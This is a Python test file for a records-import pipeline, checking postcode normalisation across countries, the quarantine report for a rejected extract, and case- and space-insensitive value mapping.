def test_family_context_keeps_other_countries_postcodes(source, tmp_path, address, line1, postcode):
    source.mapping = "family-context-cdm"
    source.save()
    path = tmp_path / "csc.csv"
    path.write_text(CDM_HEADER + "\n" + cdm_row("1001", address) + "\n", encoding="utf-8")
    imp = ingest("CSC", [path], "tester").extract_import
    assert imp.status == "loaded", imp.message
    assert imp.rows_quarantined == 0, quarantined(imp)[0].reason
    record = PersonRecord.objects.get()
    assert (record.address_line1, record.postcode) == (line1, postcode)


def test_canonical_postcodes_of_other_countries_are_kept_as_written(source, tmp_path):
    folder = write_extract(
        tmp_path / "x",
        people=[
            person("UK", postcode="sk13xe"),
            person("AU", postcode=" 4223 "),
            person("NL", postcode="1012  ab"),
            person("IE", postcode="d02 x285"),
            person("PT", postcode="1100-148"),
        ],
    )
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    assert imp.rows_quarantined == 0, quarantined(imp)[0].reason
    assert dict(PersonRecord.objects.values_list("source_record_id", "postcode")) == {
        "UK": "SK1 3XE",
        "AU": "4223",
        "NL": "1012 AB",
        "IE": "D02 X285",
        "PT": "1100-148",
    }


def test_the_quarantine_command_explains_a_rejected_import(source, tmp_path):
    folder = write_extract(tmp_path / "x")
    (folder / "people.csv").write_text("source_id,shoe_size\nP1,9\n")
    imp = run(folder)
    out = StringIO()
    call_command("quarantine", str(imp.pk), stdout=out)
    assert f"Import {imp.pk} of CSC was rejected: people.csv: unknown column(s) shoe_size" in (
        out.getvalue()
    )
    assert "Nothing of it was loaded" in out.getvalue()


def test_a_value_map_matches_a_value_however_it_is_spaced_or_cased(source, tmp_path):
    # The same lookup as the Family Context layout's: ' f ' and 'F' are the map's 'F'.
    mapping = tmp_path / "csc.toml"
    mapping.write_text('name = "CSC"\n[people.values.sex]\nF = "female"\n')
    source.mapping = str(mapping)
    source.save()
    folder = write_extract(tmp_path / "x", people=[person("P1", sex=" f "), person("P2", sex="F")])
    imp = run(folder)
    assert (imp.status, imp.people_accepted, imp.fields_held_back) == ("loaded", 2, 0)
    assert set(PersonRecord.objects.values_list("sex", flat=True)) == {"female"}
